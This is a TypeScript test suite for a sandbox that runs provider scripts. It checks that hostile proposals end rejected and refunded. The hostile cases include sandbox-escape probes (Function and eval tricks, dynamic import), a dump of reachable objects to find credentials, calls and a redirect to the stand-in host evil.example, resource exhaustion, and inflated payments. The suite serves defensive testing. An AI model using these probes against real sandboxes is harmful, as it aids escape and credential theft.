// Hostile provider scripts, proposed as an investor would propose them: each is the local cloud's script with one
// hostile part, sent with the local cloud's own transcript and real credentials, so that it passes the static
// checks and reaches the sandbox. In every case the proposal ends `rejected` with the reason recorded, its deposit
// goes back on chain to the payout address, and the agent stays healthy, its memory near where it started. The
// sandbox's own tests (test/sandbox) take each hostile act apart; this suite shows what the agent does with them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { startTestAgent } from '../helpers/agent.ts';
import { fund, get, job, proposal, propose, received, root, SECRET, type Proposed } from './helpers.ts';

const SCRIPT = readFileSync(join(root, 'spawn-scripts/local-cloud.js'), 'utf8');
const TRANSCRIPT = JSON.parse(readFileSync(join(root, 'spawn-scripts/local-cloud.transcript.json'), 'utf8')) as { calls: Array<{ call: string; exchanges: Array<{ response: { status: number; headers?: Record<string, string>; body: unknown } }> }> };
const QUOTE = 'export async function quote({ plan, days }, ctx) {';
const CREATE_RETURN = 'return { serverId: made.server.id, pay: [payment(made.invoice, total(satPerDay, termDays))] };';

/** The local cloud's script with `code` run first thing in its quote. */
const inQuote = (code: string) => SCRIPT.replace(QUOTE, `${QUOTE}\n${code}\n`);

interface Case {
  name: string;
  script: string;
  transcript?: unknown;
  /** What the recorded reason must say. */
  reason: RegExp;
}

// A large answer for the oversized case: over the sandbox's 1 MiB cap on a response.
const big = structuredClone(TRANSCRIPT);
const plans = big.calls[0]?.exchanges[0]?.response;
assert.ok(plans);
plans.body = { ...(plans.body as object), padding: 'x'.repeat(1_200_000) };

// A redirect for the redirect case: the plans answer is a 302 to a host the script does not declare.
const redirected = structuredClone(TRANSCRIPT);
const first = redirected.calls[0]?.exchanges[0]?.response;
assert.ok(first);
Object.assign(first, { status: 302, headers: { location: 'https://evil.example/v1/plans' }, body: '' });

const CASES: Case[] = [
  {
    name: 'reaching for process, require, import(), globalThis escapes, Function and the environment',
    script: inQuote(`
      const found = [typeof process, typeof require, typeof globalThis.process, typeof globalThis.Deno, typeof globalThis.Bun,
        (() => { try { return typeof Function('return this')().process; } catch (e) { return 'threw'; } })(),
        (() => { try { return typeof (0, eval)('this').require; } catch (e) { return 'threw'; } })()];
      let imported = 'nothing';
      try { await import('node:fs'); imported = 'node:fs'; } catch (e) { imported = 'refused'; }
      throw new Error('found ' + found.join(',') + '; import ' + imported);`),
    reason: /found (?:undefined|threw)(?:,(?:undefined|threw)){6}; import refused/,
  },
  {
    name: 'serialising everything reachable, looking for the credentials',
    script: inQuote(`
      const seen = new Set();
      const dump = (v, depth) => {
        if (depth > 6 || v === null || (typeof v !== 'object' && typeof v !== 'function') || seen.has(v)) return String(v);
        seen.add(v);
        return Object.getOwnPropertyNames(v).map((k) => { try { return k + '=' + dump(v[k], depth + 1); } catch (e) { return k; } }).join(';');
      };
      const res = await ctx.http({ method: 'GET', url: 'http://127.0.0.1:8430/v1/plans' });
      throw new Error('dump ' + dump(globalThis, 0).length + ' ' + dump(ctx, 0) + JSON.stringify(res.headers));`),
    reason: /SANDBOX_SCRIPT_ERROR: quote rejected: Error: dump \d+ http=/,
  },
  { name: 'an endless loop', script: inQuote('for (;;) {}'), reason: /SANDBOX_TIMEOUT/ },
  { name: 'a 1 GB allocation', script: inQuote('const hoard = []; for (let i = 0; i < 1024; i++) hoard.push(new Array(1024 * 1024 / 8).fill(i));'), reason: /SANDBOX_OUT_OF_MEMORY/ },
  { name: 'an undeclared host', script: inQuote("await ctx.http({ method: 'GET', url: 'https://evil.example/steal' });"), reason: /evil\.example/ },
  {
    name: 'a redirect to an undeclared host, followed by hand',
    script: inQuote("const r = await ctx.http({ method: 'GET', url: 'http://127.0.0.1:8430/v1/plans' }); if (r.status === 302) await ctx.http({ method: 'GET', url: r.headers.location });"),
    transcript: redirected,
    reason: /evil\.example/,
  },
  { name: 'an oversized response', script: SCRIPT, transcript: big, reason: /larger than|cut off/ },
  {
    name: 'a payment request above the quote',
    script: SCRIPT.replace(CREATE_RETURN, "return { serverId: made.server.id, pay: [{ id: made.invoice.id, address: made.invoice.address, amountSat: 90000 }] };"),
    reason: /payments \(create: the payments total 90000 sat, above the quote of 30000 sat/,
  },
  {
    name: 'a second payment for the same request',
    script: SCRIPT.replace(CREATE_RETURN, "const p = payment(made.invoice, total(satPerDay, termDays)); return { serverId: made.server.id, pay: [{ ...p, amountSat: 10000 }, { ...p, amountSat: 10000 }] };"),
    reason: /is asked for twice/,
  },
  { name: 'a malformed return value', script: inQuote("return { spawnSat: 'a lot', monthlySat: -1, termDays: 30 };"), reason: /SANDBOX_BAD_RESULT/ },
  { name: 'a flood of log output', script: inQuote("for (let i = 0; i < 20000; i++) ctx.log('flood '.repeat(20));"), reason: /log \(quote \(1\) logged past the cap/ },
];

test('hostile scripts: each proposal ends rejected with its reason, is refunded on chain, and the agent stays healthy', async (t) => {
  // Room in the proposal's body for the oversized answer's transcript.
  const a = await startTestAgent(t, { env: { STORJ_PROPOSAL_BODY_MAX_BYTES: String(4 * 1024 * 1024) } });
  const rssBefore = process.memoryUsage().rss;
  const proposed: Array<{ c: Case; p: Proposed; payout: string }> = [];
  for (const [i, c] of CASES.entries()) {
    const body = proposal(t, { script: c.script, ...(c.transcript ? { transcript: c.transcript } : {}) }, 100 + i);
    proposed.push({ c, p: await propose(a, body), payout: String(body.payoutAddress) });
  }
  for (const { p } of proposed) await fund(a, p);
  // Run in the process, not through POST /v1/dev/jobs: eleven evaluations take longer than that request's
  // connection may stay silent (bodyIdleTimeoutMs).
  // The job's own schedule may have started it already: then wait for that run, as the devnet's endpoint does.
  for (let attempt = 0; ; attempt++) {
    const run = await a.agent.scheduler.runNow('proposals.evaluate');
    if (run.outcome !== 'skipped' || attempt >= 20) {
      assert.equal(run.outcome, 'ok', run.detail);
      break;
    }
    await a.agent.scheduler.idle();
  }
  await job(a.api, 'proposals.refund');
  await a.api('POST', '/v1/dev/mine', { blocks: 1 });
  await job(a.api, 'watcher');

  for (const { c, p, payout } of proposed) {
    const v = await get(a, p.id);
    assert.equal(v.state, 'refunded', `${c.name}: ${JSON.stringify(v.history)}`);
    const rejected = v.history?.find((h) => h.state === 'rejected');
    assert.ok(rejected, `${c.name}: rejected on the way`);
    assert.match(rejected.reason, c.reason, c.name);
    assert.ok(!rejected.reason.includes(SECRET), `${c.name}: the reason holds no credential`);
    assert.equal(v.evaluation?.passed, false, c.name);
    assert.ok(v.refund?.txid, `${c.name}: a refund txid`);
    assert.equal(await received(a, payout), BigInt(v.refund.amountSat), `${c.name}: the payout address got the refund`);
    assert.ok(v.refund.amountSat > 90_000 && v.refund.amountSat < 100_000, `${c.name}: the deposit less the fee (${v.refund.amountSat})`);
  }
  assert.equal((await a.api('GET', '/healthz')).status, 200);
  // The scripts ran in worker processes: the agent's own memory did not take their gigabyte.
  const grown = process.memoryUsage().rss - rssBefore;
  assert.ok(grown < 150 * 1024 * 1024, `the agent's process grew by ${Math.round(grown / 1048576)} MB`);
});
